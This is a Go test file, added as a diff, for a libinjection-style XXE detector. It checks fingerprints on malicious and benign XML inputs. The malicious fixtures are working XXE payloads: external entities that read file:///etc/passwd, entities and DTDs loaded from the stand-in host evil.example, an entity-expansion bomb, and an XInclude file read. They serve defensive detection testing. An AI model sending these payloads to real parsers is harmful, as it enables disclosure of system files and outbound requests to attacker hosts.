@@ -0,0 +1,35 @@
+package libinjection
+
+import "testing"
+
+func TestDetectXXE(t *testing.T) {
+	tests := []struct {
+		input       string
+		fingerprint string
+	}{
+		{`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, XXE_ENTITY},
+		{`<!doctype foo [ <!entity xxe public "-//x//y" "http://evil.example/x"> ]><foo/>`, XXE_ENTITY},
+		{`<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]><foo/>`, XXE_PARAMETER},
+		{`<!DOCTYPE foo [<!-- <!ENTITY a "b"> --> %remote;]>`, XXE_PARAMETER},
+		{`<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>`, XXE_DTD},
+		{`<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;">]><lolz>&lol1;</lolz>`, XXE_EXPANSION},
+		{`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo></soap:Body></soap:Envelope>`, XXE_XINCLUDE},
+		/* benign */
+		{`<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>`, ""},
+		{`<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>`, ""},
+		{`<!DOCTYPE html><html></html>`, ""},
+		{`<!DOCTYPE note [<!ELEMENT note (#PCDATA)><!ENTITY copy "&#169;"><!ATTLIST note id CDATA "a>b">]><note>&copy;</note>`, ""},
+		{`<include file="a.xml"/>`, ""},
+		{"100% of <!DOCTYPE", ""},
+		{"<!DOCTYPE[<!", ""},
+	}
+	for _, test := range tests {
+		result := DetectXXE(test.input)
+		if result.Injection != (test.fingerprint != "") || result.Fingerprint != test.fingerprint {
+			t.Errorf("%q: expected %q, got %+v", test.input, test.fingerprint, result)
+		}
+		if is, fingerprint := IsXXE(test.input); is != result.Injection || fingerprint != test.fingerprint {
+			t.Errorf("%q: IsXXE gives %v %q", test.input, is, fingerprint)
+		}
+	}
+}